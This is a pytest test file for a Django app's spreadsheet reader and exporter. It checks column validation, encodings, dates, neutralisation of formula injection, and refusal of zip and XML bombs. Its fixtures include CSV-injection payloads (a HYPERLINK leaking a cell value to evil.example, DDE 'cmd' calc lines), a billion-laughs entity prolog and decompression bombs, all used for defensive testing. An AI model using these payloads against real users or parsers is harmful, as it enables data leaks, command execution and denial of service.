"""Reading batch files: real .xlsx files (openpyxl) and .csv files built here."""

import datetime as dt
import io
import time
import zipfile
from typing import Any

import pytest
from django.core.exceptions import ValidationError

from adit.core.spreadsheets import (
    READ_LIMITS,
    Problems,
    ReadLimits,
    SpreadsheetError,
    csv_bytes,
    export_text,
    parse_sheet_date,
    read_sheet,
    xlsx_bytes,
)
from adit.core.testing.sheets import (
    csv_data,
    csv_upload,
    raw_xlsx,
    row_bomb_xlsx,
    shared_strings_bomb_xlsx,
    upload,
    xlsx_data,
    xlsx_upload,
)

COLUMNS = ("PatientID", "StudyDate", "Pseudonym")


def read(file, **kwargs: Any):
    options: dict[str, Any] = {
        "columns": COLUMNS,
        "required_columns": ("PatientID",),
        "max_rows": 100,
        "max_bytes": 10**6,
    }
    options.update(kwargs)
    return read_sheet(file, **options)


def as_tuples(rows):
    return [(row.line, row.cells) for row in rows]


def test_xlsx_cells_are_read_as_text_with_lines_and_empty_rows_skipped():
    file = xlsx_upload(
        [
            ["PatientID", "StudyDate", "Pseudonym"],
            ["00123", dt.date(2024, 3, 1), "Alpha"],
            [None, None, None],
            [" 4567 ", dt.datetime(2023, 12, 24, 0, 0), None],
            [890, "2024-01-02", 12.0],
        ]
    )
    assert as_tuples(read(file)) == [
        (2, {"PatientID": "00123", "StudyDate": "2024-03-01", "Pseudonym": "Alpha"}),
        (4, {"PatientID": "4567", "StudyDate": "2023-12-24", "Pseudonym": ""}),
        (5, {"PatientID": "890", "StudyDate": "2024-01-02", "Pseudonym": "12"}),
    ]


def test_xlsx_number_shown_with_leading_zeros_keeps_them():
    file = xlsx_upload([["PatientID"], [123]], number_formats={(2, 1): "0000000"})
    assert as_tuples(read(file)) == [(2, {"PatientID": "0000123"})]


def test_csv_utf8_with_bom_and_semicolons():
    file = csv_upload(
        [["PatientID", "Pseudonym"], ["007", "Müller"], ["", ""], ["0815", "Ørsted"]],
        delimiter=";",
        bom=True,
    )
    assert as_tuples(read(file)) == [
        (2, {"PatientID": "007", "Pseudonym": "Müller"}),
        (4, {"PatientID": "0815", "Pseudonym": "Ørsted"}),
    ]


def test_csv_with_commas_and_without_bom():
    file = csv_upload([["PatientID", "StudyDate"], ["01", "2024-01-01"]])
    assert as_tuples(read(file)) == [(2, {"PatientID": "01", "StudyDate": "2024-01-01"})]


def test_columns_not_in_the_file_are_empty_and_ignored_columns_are_dropped():
    file = csv_upload([["Extra", "PatientID"], ["x", "1"]])
    rows = read(file, ignored_columns=("Extra",))
    assert rows[0].cells == {"PatientID": "1"}
    assert rows[0]["Pseudonym"] == ""


def test_unknown_and_missing_columns_are_named_together():
    file = csv_upload([["patientid", "Studydate", "Whatever"], ["1", "2", "3"]])
    with pytest.raises(SpreadsheetError) as error:
        read(file)
    assert str(error.value) == (
        "Unknown column(s): patientid (did you mean PatientID?), Studydate (did you mean "
        "StudyDate?), Whatever. Missing required column(s): PatientID. Column names are "
        "case-sensitive; the columns are: PatientID, StudyDate, Pseudonym."
    )


def test_duplicate_column():
    with pytest.raises(SpreadsheetError, match=r"Column\(s\) named more than once: PatientID\."):
        read(csv_upload([["PatientID", "PatientID"], ["1", "2"]]))


def test_values_under_a_column_without_name():
    with pytest.raises(SpreadsheetError) as error:
        read(csv_upload([["PatientID", "", "Pseudonym"], ["1", "lost", "x"]]))
    assert str(error.value) == (
        "Column(s) B hold values but have no name in the header row; name them or delete them."
    )


@pytest.mark.parametrize("make", [csv_upload, xlsx_upload])
def test_values_right_of_the_header_are_not_dropped(make):
    with pytest.raises(SpreadsheetError) as error:
        read(make([["PatientID", "Pseudonym"], ["1", "x", "lost", "", "lost too"]]))
    assert str(error.value).startswith("Column(s) C, E hold values but have no name")


def test_empty_header_and_no_data_rows():
    with pytest.raises(SpreadsheetError, match="The first row must be the header"):
        read(csv_upload([["", ""], ["1", "2"]]))
    with pytest.raises(SpreadsheetError) as error:
        read(xlsx_upload([["PatientID"], [None]]))
    assert str(error.value) == "The file has a header but no data rows."


def test_corrupt_xlsx():
    data = xlsx_data([["PatientID"], ["1"]])
    # Keep the zip directory intact but damage the workbook XML inside.
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/workbook.xml":
                content = content[: len(content) // 2]
            target.writestr(item, content)
    with pytest.raises(SpreadsheetError) as error:
        read(upload(buffer.getvalue(), "damaged.xlsx"))
    assert str(error.value) == (
        "The file damaged.xlsx is not a valid Excel workbook (.xlsx): it is damaged, "
        "password-protected or of another format. Save it as “Excel Workbook (.xlsx)” or "
        "“CSV UTF-8 (.csv)” and upload it again."
    )


def test_truncated_xlsx():
    data = xlsx_data([["PatientID"], ["1"]])
    with pytest.raises(SpreadsheetError, match="truncated.xlsx is not a valid Excel workbook"):
        read(upload(data[: len(data) - 200], "truncated.xlsx"))


def test_non_spreadsheet_renamed_to_xlsx():
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
    with pytest.raises(SpreadsheetError) as error:
        read(upload(pdf, "report.xlsx"))
    assert str(error.value).startswith(
        "The file report.xlsx is not a valid Excel workbook (.xlsx): it is damaged,"
    )


def test_other_extension():
    with pytest.raises(SpreadsheetError) as error:
        read(upload(b"PatientID\n1\n", "old.xls"))
    assert str(error.value) == (
        "The file old.xls is not an .xlsx or .csv file; only Excel workbooks (.xlsx) and CSV "
        "files (.csv) are accepted."
    )


def test_csv_that_is_not_utf8():
    data = "PatientID;Pseudonym\n1;Müller\n".encode("latin-1")
    with pytest.raises(SpreadsheetError) as error:
        read(upload(data, "latin.csv"))
    assert str(error.value) == (
        "The file latin.csv is not UTF-8 text (byte 0xfc at position 23). Save it as "
        "“CSV UTF-8 (.csv)” and upload it again."
    )


def test_oversized_file():
    data = csv_data([["PatientID"]] + [[str(n)] for n in range(3000)])
    with pytest.raises(SpreadsheetError) as error:
        read(upload(data, "big.csv"), max_bytes=10 * 1024)
    assert (
        str(error.value)
        == f"The file is {round(len(data) / 1024)} KiB; at most 10 KiB are allowed."
    )


def test_too_many_rows():
    file = xlsx_upload([["PatientID"]] + [[f"P{n}"] for n in range(11)])
    with pytest.raises(SpreadsheetError) as error:
        read(file, max_rows=10, row_limit_hint=" for non-staff users")
    assert str(error.value) == (
        "The file has more than 10 data rows; at most 10 are allowed for non-staff users. Split "
        "it into several files."
    )


def test_empty_file():
    with pytest.raises(SpreadsheetError, match="The file empty.csv is empty."):
        read(upload(b"", "empty.csv"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-03-31", dt.date(2024, 3, 31)),
        ("20240331", dt.date(2024, 3, 31)),
        ("31.03.2024", dt.date(2024, 3, 31)),
        ("2024-03-31 00:00:00", dt.date(2024, 3, 31)),
    ],
)
def test_dates(text, expected):
    assert parse_sheet_date(text) == expected


def test_bad_date():
    with pytest.raises(ValidationError) as error:
        parse_sheet_date("31/03/2024")
    assert error.value.messages == [
        "'31/03/2024' is not a valid date; write it as YYYY-MM-DD (e.g. 2024-03-31), "
        "DD.MM.YYYY or use an Excel date cell."
    ]


def test_problems_are_grouped_by_lines_and_sorted():
    problems = Problems()
    problems.add(7, "PatientID", "Bad.")
    problems.add(3, "", "Whole row.")
    problems.add([9, 3], "Pseudonym", "Conflict.")
    problems.add(7, "PatientID", "Bad.")
    assert problems.as_text() == [
        "Line 3: Whole row.",
        "Lines 3, 9, Pseudonym: Conflict.",
        "Line 7, PatientID: Bad.",
    ]
    assert len(problems) == 3
    assert problems.line_count == 3


def test_written_files_read_back_as_text():
    header = ["PatientID", "StudyDate"]
    rows = [["000123", "2024-01-01"]]
    for name, data in (("a.xlsx", xlsx_bytes(header, rows)), ("a.csv", csv_bytes(header, rows))):
        assert as_tuples(read(upload(data, name))) == [
            (2, {"PatientID": "000123", "StudyDate": "2024-01-01"})
        ]


# --- exports are data, never code ---------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",
]


def test_formula_triggers_get_a_quote_and_other_text_stays_as_it_is():
    assert [export_text(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert export_text("CT Thorax = nativ") == "CT Thorax = nativ"
    assert export_text("'=already quoted") == "'=already quoted"
    assert export_text(12) == "12"
    assert export_text(None) == ""
    assert export_text("bell\x07") == "bell\ufffd"


def test_xlsx_export_has_string_cells_only_and_no_formula():
    data = xlsx_bytes(["=Header", "B"], [[value, "plain"] for value in HOSTILE])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert sheet_xml.count("<c ") == sheet_xml.count('t="inlineStr"') == 2 * (len(HOSTILE) + 1)

    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["'=Header", "B"]
    # (XML reads a CR in text as LF.)
    assert [row[0] for row in values[1:]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)


def test_csv_export_quotes_every_field_and_neutralises_formulas():
    import csv

    text = csv_bytes(["A", "B"], [[value, "x;=1+1"] for value in HOSTILE]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Every field is quoted, so a separator inside a value never starts a new cell.
    assert text.splitlines()[0] == '"A","B"'
    assert '"x;=1+1"' in text


def test_neutralised_exports_read_back_as_the_original_values():
    header = ["PatientID", "StudyDate", "Pseudonym"]
    rows = [["-5", "2024-01-01", '=HYPERLINK("http://evil.example/","x")'], ["@p", "", "+49"]]
    for name, data in (("a.xlsx", xlsx_bytes(header, rows)), ("a.csv", csv_bytes(header, rows))):
        assert as_tuples(read(upload(data, name))) == [
            (2, {"PatientID": "-5", "StudyDate": "2024-01-01", "Pseudonym": rows[0][2]}),
            (3, {"PatientID": "@p", "StudyDate": "", "Pseudonym": "+49"}),
        ]


# --- bombs and limits: refused fast, with the limit named ---------------------------------------

STAFF = {"max_rows": 20000, "max_bytes": 5 * 1024 * 1024}


def timed_error(data: bytes, name: str = "bomb.xlsx", **kwargs) -> tuple[str, float]:
    start = time.monotonic()
    with pytest.raises(SpreadsheetError) as error:
        read(upload(data, name), **{**STAFF, **kwargs})
    return str(error.value), time.monotonic() - start


def test_a_million_compact_rows_are_refused_by_the_zip_ratio():
    data = row_bomb_xlsx(1_000_000)
    assert len(data) < 400 * 1024
    message, seconds = timed_error(data)
    assert "xl/worksheets/sheet1.xml unpacks to" in message
    assert "at most 100 times are allowed" in message
    assert seconds < 1


def test_rows_beyond_the_limit_are_refused_while_streaming():
    # Numbered rows compress like an ordinary sheet (ratio ~11): only the row count stops it.
    data = row_bomb_xlsx(400_000, numbered=True)
    message, seconds = timed_error(data)
    assert message.startswith("A sheet of the file (xl/worksheets/sheet1.xml) has more than")
    assert "at most 30001 are allowed" in message
    assert seconds < 2


def test_shared_strings_bomb_is_refused_before_unpacking():
    data = shared_strings_bomb_xlsx(300)
    assert len(data) < 400 * 1024
    message, seconds = timed_error(data)
    assert message == (
        "The workbook is too large when unpacked: xl/sharedStrings.xml unpacks to 300 MiB; at "
        "most 16 MiB are allowed for the shared-strings table."
    )
    assert seconds < 1


def test_xml_entities_are_refused():
    laughs = (
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    )
    data = raw_xlsx(
        ['<row><c t="inlineStr"><is><t>PatientID</t></is></c></row>',
         '<row><c t="inlineStr"><is><t>&lol3;</t></is></c></row>'],
        prolog=laughs,
    )  # fmt: skip
    message, _ = timed_error(data)
    assert "DOCTYPE/ENTITY" in message


def test_a_row_with_too_many_cells_is_refused():
    cells = '<c s="1"/>' * 1001  # formatted empty cells
    data = raw_xlsx(
        ['<row><c t="inlineStr"><is><t>PatientID</t></is></c></row>', f"<row>{cells}</row>"]
    )
    message, _ = timed_error(data)
    assert message == (
        "Row 2 of xl/worksheets/sheet1.xml has more than 1000 cells; at most 1000 are allowed."
    )


def test_values_beyond_the_column_limit_are_refused():
    rows = [["PatientID"] + [""] * 200 + ["X"], ["P1"] + [""] * 200 + ["Y"]]
    for data, name in ((xlsx_data(rows), "wide.xlsx"), (csv_data(rows), "wide.csv")):
        message, _ = timed_error(data, name)
        assert message == "The file has values in more than 200 columns; at most 200 are allowed."


def test_csv_rows_beyond_the_limit_are_refused_while_reading():
    data = b"PatientID\n" + b"P\n" * 2_000_000  # 4 MB, two million rows
    message, seconds = timed_error(data, "rows.csv", max_rows=1000, row_limit_hint=" for you")
    assert message == (
        "The file has more than 1000 data rows; at most 1000 are allowed for you. Split it "
        "into several files."
    )
    assert seconds < 1


def test_many_empty_rows_are_refused():
    data = b"PatientID\nP1\n" + b",\n" * 20_000
    message, _ = timed_error(data, "empty.csv", max_rows=100)
    assert message.startswith("The file has more than 10101 rows (empty rows included)")


def test_time_budget():
    data = xlsx_data([["PatientID"]] + [[f"P{n}"] for n in range(2000)])
    message, _ = timed_error(data, limits=ReadLimits(seconds=0))
    assert message.startswith("Reading the file took longer than 0 seconds, the limit")


def test_largest_ordinary_file_is_read_within_the_budget():
    rows = [["PatientID", "StudyDate", "Pseudonym"]] + [
        [f"P{n:07d}", dt.date(2024, 1, 1 + n % 28), f"PSN{n}"] for n in range(20000)
    ]
    start = time.monotonic()
    assert len(read(xlsx_upload(rows), **STAFF)) == 20000
    assert time.monotonic() - start < READ_LIMITS.seconds


def test_filled_cells_are_limited_by_the_row_limit():
    rows = [["PatientID"] + [f"C{n}" for n in range(30)]] + [["P"] * 31 for _ in range(200)]
    message, _ = timed_error(xlsx_data(rows), max_rows=100)
    assert message.startswith("The file has more than 2020 filled cells; at most 20 per allowed")
